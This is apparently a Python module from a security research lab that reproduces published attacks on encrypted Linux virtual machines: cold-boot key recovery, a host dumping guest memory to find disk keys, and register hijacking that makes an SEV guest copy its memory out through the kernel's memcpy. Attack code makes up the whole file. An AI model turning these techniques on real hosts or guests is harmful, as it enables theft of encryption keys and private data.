"""The disk key of a stock Linux: in modules carried away, for an administrator, and in a running guest."""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Final

from cbit.attacks import forensics
from cbit.attacks.experiments.registers import NEEDS_ES
from cbit.attacks.lab.attack import Range, attack
from cbit.attacks.lab.disk_keys import expanded_keys, opened_disks
from cbit.attacks.lab.guest import Crashed
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.linux_victim import HOST_MEMORY, MEMORY
from cbit.attacks.lab.log import Field, Log
from cbit.attacks.lab.outcome import SUCCEEDS, Mode, does_not_apply, stopped_by, succeeds
from cbit.attacks.lab.scene import Fact, Facts, Scene
from cbit.attacks.lab.stand import Setup, Stand
from cbit.attacks.lab.tools import Registers, Thwarted
from cbit.attacks.power import Power
from cbit.crypto.memory_modes import Mode as Engine
from cbit.guest.linux.kernel_code import KernelCode, kernel_code
from cbit.spec.address import GIB, MIB

_SETUP: Final = Setup(engine=Engine.XEX, memory=MEMORY + HOST_MEMORY, cache=32 * MIB)
_SOURCE: Final = "Hetzelt & Buhren, VEE 2017 (attacks.md A4a)"


def linux(stand: Stand) -> Scene:
    """Boot a stock Linux that has opened its encrypted disk with the key that its owner gave it."""
    victim, files = stand.linux()
    halves = files.disk_key[:32], files.disk_key[32:]
    known: dict[str, Fact] = {
        "kernel": files.kernel,
        "disk": files.disk,
        "decay": float(stand.parameters.get("decay", 0)),
    }
    planted = b"The disk is open" in victim.terminal.text
    return Scene((*halves, files.password), Facts(known), victim, planted=planted, serves=planted)


def _open(facts: Facts, keys: list[bytes], log: Log) -> bytes:
    """Try what was found on the disk, which the host has; what is on it is loot as well."""
    loot = b"".join(keys)
    for contents in opened_disks(facts.data("disk"), keys):
        log.step("two of the keys open the disk", contents)
        loot += contents
    log.figure("keys of AES-256 found, of a disk that has two", len(keys))
    return loot


_GONE = stopped_by("the key was in the chip and is gone with the power: what is left is noise")


@attack(
    title="Cold boot of a stock Linux",
    paper="Halderman et al., USENIX Security 2008 (attacks.md A1)",
    holds={Power.CUT_POWER, Power.FLUSH_CACHES},
    expect={
        Mode.NONE: SUCCEEDS,
        Mode.SME: _GONE,
        Mode.SEV: _GONE,
        Mode.SEV_ES: _GONE,
        Mode.SEV_SNP: _GONE,
    },
    victim=linux,
    setup=_SETUP,
    parameters={"decay": Range(0.01, 0.0, 1.0)},
    linux=True,
)
def linux_cold_boot(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Carry the modules of a running Linux away, and open its encrypted disk with the key that is in them.

    dm-crypt holds the disk's two keys expanded, to be quick.  The search is that of the small victim's cold
    boot, over all of a machine's memory; what it finds is tried on the disk.
    """
    hands.caches.write_back()
    decay = facts.real("decay")
    image = hands.carry_away(decay=decay)
    log.step(f"{len(image) // MIB} MiB read after {decay:.1%} of the charged cells had faded")
    return _open(facts, expanded_keys(image), log)


@attack(
    title="The administrator's tools on a stock Linux",
    paper="attacks.md §3 E2; memory-encryption.md §4.5",
    holds={Power.MAP_MEMORY, Power.FLUSH_CACHES},
    expect={
        Mode.NONE: SUCCEEDS,
        Mode.SME: succeeds("a mapping with C=1 uses the host's key, and the host is the attacker"),
        Mode.SEV: stopped_by("the guest's key: a host mapping has no key, or the host's"),
        Mode.SEV_ES: stopped_by("the guest's key"),
        Mode.SEV_SNP: stopped_by("the guest's key; with ciphertext hiding, not even ciphertext"),
    },
    victim=linux,
    setup=_SETUP,
    linux=True,
)
def linux_tools(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Dump the guest's memory as root on the host, and let the usual tools loose on it.

    The dump is made through a mapping with C=0, and again through one with C=1.  aeskeyfind, strings and
    volatility3 are other people's programs; where one is not here the notebook says so, and the lab's own
    search for expanded keys is made in any case.
    """
    hands.caches.write_back()
    start, loot, keys = hands.memory.spa(0, MEMORY), b"", []
    for c in (False, True):
        image = hands.memory.read(start, MEMORY, c=c)
        log.step(f"{MEMORY // MIB} MiB of the guest, through a mapping with C={int(c)}", image[MIB:])
        keys += expanded_keys(image)
        with tempfile.TemporaryDirectory(prefix="cbit-attack-") as folder:
            path = Path(folder) / "dump"
            path.write_bytes(image)
            dump = forensics.Dump("the guest", path)
            found, texts = forensics.keys_in(dump), forensics.texts_in(dump)
            banners = forensics.banners_in(dump)
        keys += [key for key in sorted(found) if len(key) == 32] if isinstance(found, set) else []
        passwords = [text for text in texts if b"password-" in text] if isinstance(texts, list) else []
        for tool, what, answer in (
            ("aeskeyfind", f"{len(found)} keys", found),
            ("strings", f"{len(passwords)} passwords in {len(texts)} texts", texts),
            ("volatility3", f"{len(banners)} banners of a kernel", banners),
        ):
            log.step(f"{tool}: {answer if isinstance(answer, str) else what}")
        loot += b"".join(passwords)
    return loot + _open(facts, list(dict.fromkeys(keys)), log)


_NO_KEY = does_not_apply("the host reads the memory of such a guest by itself")
_PIECE: Final = MIB
_NOWHERE: Final = 1 << 63  # no canonical address: whatever uses it faults
#: rep movsq; mov ecx, edx; rep movsb: the middle of the kernel's memcpy, which then returns.
_COPY: Final = bytes.fromhex("f348a5 89d1 f3a4")


@attack(
    title="A stock Linux copies its memory out",
    paper=f"{_SOURCE}; SEVurity §VI-E (attacks.md A10 step 8)",
    holds={Power.TAKE_EXITS, Power.USE_REGISTERS, Power.MAP_MEMORY, Power.EMULATE, Power.CLIENT},
    expect={
        Mode.NONE: _NO_KEY,
        Mode.SME: _NO_KEY,
        Mode.SEV: succeeds("registers are in the VMCB and in the processor, in the clear"),
        Mode.SEV_ES: stopped_by("SEV-ES: registers are encrypted and their integrity is checked at VMRUN"),
        Mode.SEV_SNP: stopped_by("SEV-ES: registers are encrypted and their integrity is checked at VMRUN"),
    },
    unshown=NEEDS_ES,
    victim=linux,
    setup=_SETUP,
    linux=True,
)
def linux_registers(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Let a running, encrypted Linux copy all of its memory to where the host can read it.

    1. The guest is idle.  rIP at the exit, the page offset of `hlt` in the public kernel: that is where the
       kernel was loaded, whatever it has randomised.  The base of GS lies in the kernel's map of all memory,
       which begins at a multiple of 1 GiB.
    2. The guest's disk is the host's: its requests name the pages that the guest shares, its bounce buffers.
    3. rIP goes to the copy in the kernel's own memcpy, rSI to a piece of memory, rDI to the bounce buffers,
       rSP nowhere: the return behind the copy faults, and the fault is the next exit.
    4. The registers are put back, and the guest answers at its console as if nothing had been.
    """
    registers = hands.registers
    code, idle = kernel_code(facts.data("kernel")), registers["rip"]
    kernel, memory = _where_it_runs(code, idle), registers["gs_base"] // GIB * GIB
    log.step(
        f"idle at {idle:#x}: the kernel is linked for {code.linked_at:#x} and runs at {kernel:#x};"
        f" it maps all memory at {memory:#x}"
    )
    shared = min(gpa for gpa, _ in hands.disk_requests())
    window = (shared // _PIECE + 2) * _PIECE
    log.step(f"its disk was last asked for something at {shared:#x}: {window:#x} is shared as well")
    offset = code.code.index(_COPY)
    log.step(f"rep movsq in the kernel's memcpy: {kernel + offset:#x}", code.code[offset : offset + 16])
    pieces, before = [], hands.victim.exits
    with _borrowed(registers):
        for at in range(0, MEMORY, _PIECE):
            registers["rip"], registers["rsp"], registers["rflags"] = kernel + offset, _NOWHERE, 2
            registers["rsi"], registers["rdi"] = memory + at, memory + window
            registers["rcx"], registers["rdx"] = _PIECE // 8, 0
            hands.victim.run(interrupts=False)  # to the fault: behind the copy, or where memory ends
            pieces.append(hands.memory.read(hands.memory.spa(window, _PIECE), _PIECE))
    image, exits = b"".join(pieces), hands.victim.exits - before
    log.step(
        f"{exits} exits, {len(image) // MIB} MiB: pages of zeros dark, others light",
        picture=Field(64, bytes(255 if any(piece) else 40 for piece in pieces)),
    )
    answer = hands.type(b"echo still $((6 * 7))")
    log.step("the guest at its console, asked for 6 * 7", answer)
    if b"still 42" not in answer:
        raise Crashed("the guest does not go on")
    log.figure(
        "exits for each MiB",
        exits / (len(image) / MIB),
    )
    return _open(facts, expanded_keys(image), log)


@contextmanager
def _borrowed(registers: Registers) -> Iterator[None]:
    """Take faults instead of the guest, and put its registers back in the end."""
    saved = registers.all() | {name: registers[name] for name in ("rip", "rsp", "rflags")}
    registers.take_faults(on=True)
    try:
        yield
    finally:
        registers.take_faults(on=False)
        for name, value in saved.items():
            registers[name] = value


def _where_it_runs(code: KernelCode, behind_hlt: int) -> int:
    """Where the first byte of the kernel's code is: it moves by multiples of its alignment, 2 MiB."""
    step, halt = 2 * MIB, b"\xfb\xf4"  # sti; hlt
    offset = (behind_hlt - len(halt) - code.linked_at) % step
    for at in range(offset, len(code.code), step):
        if code.code.startswith(halt, at):
            return behind_hlt - len(halt) - at
    raise Thwarted(f"the kernel has no idle routine that ends like {behind_hlt:#x}")
